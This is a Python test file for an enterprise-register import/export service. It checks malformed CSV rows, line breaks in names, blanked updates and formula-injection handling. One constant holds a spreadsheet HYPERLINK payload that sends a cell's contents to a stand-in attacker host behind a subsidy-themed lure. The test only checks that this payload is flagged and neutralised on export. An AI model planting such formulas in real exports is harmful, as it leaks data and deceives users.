"""Nothing valid lost, nothing stored corrupted (issue #15), on both stores: the
unclosed-quote enterprises file, names with line breaks, updates that would blank a stored
value, and formula-like text flagged on import and exported as text."""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from indspace.services.exporting import export_kind
from indspace.services.importing import import_file
from indspace.store import Store

C1, C2, C3, C4 = (
    "91310110666007217T",
    "914403001922038216",
    "91330212MA2H7K1C31",
    "91330200MA2AAAAA1K",
)
HEADER = "统一社会信用代码,企业名称,所在区县,行业代码,企业规模\n"
LINK = '=HYPERLINK("http://evil.example/?x="&A1,"点击领取补贴")'


@pytest.fixture
def store(db_url: str, tmp_path: Path):  # type: ignore[no-untyped-def]
    """A store holding two firms, imported as a bureau would."""
    s = Store.create(db_url)
    src = tmp_path / "firms.csv"
    src.write_text(
        HEADER + f"{C1},甲机械有限公司,330212,3481,规上\n{C2},乙电子有限公司,330203,3971,规下\n",
        encoding="utf-8",
    )
    res = import_file(s, "enterprises", src, report_dir=tmp_path / "reports")
    assert res.inserted == 2
    yield s
    s.close()


def firm(store: Store, code: str) -> dict:  # type: ignore[type-arg]
    f = store.read_frame("enterprises", where={"credit_code": code})
    return f.iloc[0][["name", "district", "industry_code", "scale"]].to_dict() if len(f) else {}


def quarantine(store: Store, import_id: str) -> pd.DataFrame:
    q = pd.read_sql_table("import_quarantine", store.engine)
    return q[q.import_id == import_id].sort_values(["source_row", "code"])


def test_the_unclosed_quote_file(store: Store, tmp_path: Path) -> None:
    before_c2 = firm(store, C2)
    path = tmp_path / "update.csv"
    path.write_text(
        HEADER
        + f"{C1},甲精密机械有限公司,330212,3481,规上\n"  # line 2: a real update
        + f'{C2},"乙电子有限公司,330203,3971,规下\n'  # line 3: the quote never closes
        + f"{C3},丙材料有限公司,330205,2929,规上\n"  # lines 4, 5: good new firms
        + f"{C4},丁科技有限公司,330206,6513,规下\n",
        encoding="utf-8",
    )
    res = import_file(store, "enterprises", path, report_dir=tmp_path / "reports")
    # 5 physical lines = header + 3 rows read + 1 line refused; 4 rows read in all
    assert (res.lines, res.rows_read, res.accepted, res.rejected) == (5, 4, 3, 1)
    assert (res.inserted, res.updated, res.status) == (2, 1, "committed")
    assert firm(store, C1) == {
        "name": "甲精密机械有限公司",
        "district": "330212",
        "industry_code": "3481",
        "scale": "above",
    }  # only the rename
    assert firm(store, C2) == before_c2  # untouched
    assert firm(store, C3)["name"] == "丙材料有限公司"
    assert firm(store, C4)["name"] == "丁科技有限公司"
    q = quarantine(store, res.import_id)
    assert q[["source_row", "code"]].values.tolist() == [[3, "E127"]]
    assert "第 3 行" in q.message_zh.iloc[0] and "line 3" in q.message_en.iloc[0]
    assert C2 in q.raw_json.iloc[0]  # the line as read is kept
    with open(res.report, encoding="utf-8-sig", newline="") as fh:
        report = list(csv.reader(fh))
    assert [r[0] for r in report[1:]] == ["3"] and report[1][2] == "E127"


def test_a_name_with_a_line_break_is_refused(store: Store, tmp_path: Path) -> None:
    before = firm(store, C2)
    path = tmp_path / "update.csv"  # quoted cell with a line break: refused while reading
    path.write_text(
        HEADER + f'{C2},"乙电子\n有限公司",330203,3971,规下\n'
        f"{C3},丙材料有限公司,330205,2929,规上\n",
        encoding="utf-8",
    )
    res = import_file(store, "enterprises", path, report_dir=tmp_path / "reports")
    assert (res.lines, res.rows_read, res.accepted, res.rejected) == (4, 2, 1, 1)
    assert firm(store, C2) == before
    q = quarantine(store, res.import_id)
    assert q[["source_row", "code"]].values.tolist() == [[2, "E127"]]
    # the same name from Excel (a cell with Alt+Enter): refused by validation
    book = tmp_path / "update.xlsx"
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["统一社会信用代码", "企业名称", "所在区县"])
    ws.append([C2, "乙电子\n有限公司", "330203"])
    ws.append([C3, "丙\t材料有限公司", "330205"])
    wb.save(book)
    res = import_file(store, "enterprises", book, report_dir=tmp_path / "reports")
    assert (res.accepted, res.rejected) == (0, 2)
    assert firm(store, C2) == before
    q = quarantine(store, res.import_id)
    assert q[["source_row", "code", "field"]].values.tolist() == [
        [2, "E130", "name"],
        [3, "E130", "name"],
    ]
    assert "换行" in q.message_zh.iloc[0] and "control character" in q.message_en.iloc[1]


def test_an_update_never_blanks_a_stored_value(store: Store, tmp_path: Path) -> None:
    before = {c: firm(store, c) for c in (C1, C2)}
    path = tmp_path / "update.csv"
    path.write_text(
        HEADER + f"{C1},,330212,3481,规上\n"  # required name blanked
        f"{C2},乙电子有限公司,,3971,规下\n"  # stored district blanked
        f"{C3},丙材料有限公司,,,\n",
        encoding="utf-8",
    )  # new: may be empty
    res = import_file(store, "enterprises", path, report_dir=tmp_path / "reports")
    assert (res.accepted, res.rejected, res.inserted, res.updated) == (1, 2, 1, 0)
    assert {c: firm(store, c) for c in (C1, C2)} == before
    q = quarantine(store, res.import_id)
    assert q[["source_row", "code", "field"]].values.tolist() == [
        [2, "E101", "name"],
        [3, "E131", "district"],
    ]
    assert "330203" in q.message_zh.iloc[1] and "330203" in q.message_en.iloc[1]


def test_formula_text_is_flagged_and_exported_as_text(store: Store, tmp_path: Path) -> None:
    path = tmp_path / "update.csv"
    with path.open("w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(HEADER.strip().split(","))
        w.writerow([C3, LINK, "330205", "2929", "规上"])
    res = import_file(store, "enterprises", path, report_dir=tmp_path / "reports")
    assert (res.accepted, res.warnings) == (1, 1)
    q = quarantine(store, res.import_id)
    assert q[["source_row", "code", "severity"]].values.tolist() == [[2, "W132", "warning"]]
    assert firm(store, C3)["name"] == LINK  # kept as the text it is

    xlsx, _ = export_kind(store, "enterprises", "xlsx", tmp_path / "out.xlsx")
    ws = openpyxl.load_workbook(xlsx).active
    cells = next(row for row in ws.iter_rows(min_row=2) if row[0].value == C3)
    name = cells[1]
    assert (name.value, name.data_type) == (LINK, "s")  # a string cell, not 'f'

    out, _ = export_kind(store, "enterprises", "csv", tmp_path / "out.csv")
    with out.open(encoding="utf-8-sig", newline="") as fh:
        rows = {r["credit_code"]: r for r in csv.DictReader(fh)}
    assert rows[C3]["name"] == "'" + LINK  # OWASP: a leading apostrophe
    assert rows[C1]["name"] == "甲机械有限公司"
    # the export re-imports to the same value (the apostrophe is removed again)
    again = import_file(store, "enterprises", out, report_dir=tmp_path / "reports")
    assert again.updated == 0 and firm(store, C3)["name"] == LINK
